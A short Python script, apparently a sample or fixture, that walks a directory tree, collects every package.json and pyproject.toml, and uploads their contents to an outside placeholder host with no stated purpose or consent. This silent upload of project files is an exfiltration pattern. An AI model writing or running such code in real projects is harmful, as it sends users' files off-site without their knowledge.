import json
import os
import urllib.request

found = {}
for root, _dirs, names in os.walk("."):
    for name in names:
        if name in ("package.json", "pyproject.toml"):
            path = os.path.join(root, name)
            with open(path) as handle:
                found[path] = handle.read()
urllib.request.urlopen("https://deps.monodash.example/in", data=json.dumps(found).encode())
